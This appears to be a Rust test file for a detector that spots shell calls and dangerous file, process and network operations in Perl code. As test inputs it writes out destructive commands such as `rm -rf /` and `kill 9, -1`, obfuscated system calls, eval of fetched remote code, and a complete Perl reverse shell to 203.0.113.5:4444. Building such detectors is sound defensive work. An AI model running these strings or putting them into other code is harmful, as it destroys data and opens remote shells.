use super::*;

const PERL: Language = Language::Perl;

#[test]
fn shell_text_is_found_in_every_form() {
    for code in [
        "system('reboot')",
        "system \"reboot\";",
        "exec 'reboot' or die",
        "`reboot`",
        "my $x = `reboot`; print $x",
        "qx{reboot}",
        "print qx(reboot);",
        "my $c = 'boot'; system(\"re$c\")",
        "my $c = 'boot'; system('re' . $c)",
        "my $c = 'boot'; system(\"re${c}\")",
        "system(q{reboot}) if 1;",
        "system(qq(reboot));",
        "open(F, 'reboot|')",
        "open(my $f, '-|', 'reboot')",
        "open F, '| reboot'",
        "system(<<E);\nreboot\nE\n",
        "system(<<'E') and die;\nreboot\nE\n",
        "BEGIN { system 'reboot' }",
        "use MIME::Base64; system(decode_base64('cmVib290'))",
        "CORE::system('reboot')",
        "system pack('H*','7265626f6f74')",
    ] {
        let found: Vec<String> = does(PERL, code)
            .iter()
            .map(|line| line.split_whitespace().collect())
            .collect();
        assert_eq!(found, ["shell:reboot"], "{code}");
    }
}

#[test]
fn programs_and_calls_are_found() {
    all(
        PERL,
        &[
            ("exec {'rm'} 'rm','-rf','/'", &["run: rm -rf /"]),
            ("@f = glob('*.db'); unlink @f;", &["call: rm -- {*.db}"]),
            ("$SIG{ALRM} = sub { exec 'a' }; alarm 5;", &["shell: a"]),
            ("system('rm', '-rf', '/')", &["run: rm -rf /"]),
            ("exec qw(rm -rf /)", &["run: rm -rf /"]),
            ("my @c = ('rm', '-rf', '/'); system(@c)", &["run: rm -rf /"]),
            ("unlink glob \"*.db\"", &["call: rm -- {*.db}"]),
            ("unlink(<*.db>)", &["call: rm -- {*.db}"]),
            ("unlink 'a', 'b';", &["call: rm -- a b"]),
            ("unlink for glob('*')", &["call: rm -- <_>"]),
            (
                "remove_tree(\"cache-prod\")",
                &["call: rm -rf -- cache-prod"],
            ),
            ("use File::Path; rmtree('/')", &["call: rm -rf -- /"]),
            (
                "File::Path::remove_tree('/', {safe => 1})",
                &["call: rm -rf -- /"],
            ),
            ("rmtree($ENV{HOME})", &["call: rm -rf -- <HOME>"]),
            ("rmtree(\"$ENV{HOME}/x\")", &["call: rm -rf -- <HOME>/x"]),
            (
                "open(my $f, '>', '/etc/passwd')",
                &["call: tee -- /etc/passwd"],
            ),
            ("open(F, '>>/etc/passwd')", &["call: tee -a -- /etc/passwd"]),
            ("open(F, '<', 'f') or die", &["call: cat -- f"]),
            ("rename 'a', 'b'", &["call: mv -- a b"]),
            ("chmod 0777, 'f', 'g'", &["call: chmod -- 777 f g"]),
            ("kill 9, -1", &["call: kill -9 -- -1"]),
            ("kill 'KILL', $pid", &["call: kill -KILL -- <pid>"]),
            ("for my $f ('a', 'b') { unlink $f }", &["call: rm -- a b"]),
            ("eval \"print 1\"", &["code: print 1"]),
            (
                "use LWP::Simple; eval get('http://h')",
                &["code: <fetched>", "call: curl -- http://h"],
            ),
        ],
    );
}

#[test]
fn reverse_shells_are_seen_by_their_structure() {
    let code = "use Socket;$i=\"203.0.113.5\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");";
    assert_eq!(
        does(PERL, code),
        [
            "shell: /bin/sh -i",
            "reverse: nc -e /bin/sh 203.0.113.5 4444"
        ]
    );
}

#[test]
fn words_that_are_no_calls_do_nothing() {
    nothing(
        PERL,
        &[
            "s/v1/v2/",
            "print \"system('reboot')\\n\"",
            "# system('reboot')",
            "=pod\n\nsystem('reboot')\n\n=cut\nprint 1;",
            "m{`reboot`}",
            "tr/`a`/`b`/",
            "$obj->system('reboot')",
            "my %h = (system => 1, exec => 2);",
            "print $1 if /unlink (\\w+)/",
            "print q(`reboot`)",
            "eval { die }; print $@",
            "y/a-z/A-Z/",
            "$x{exec} = 1; $h->{system}",
            "__END__\nsystem('reboot')",
            "while (<STDIN>) { print }",
        ],
    );
}
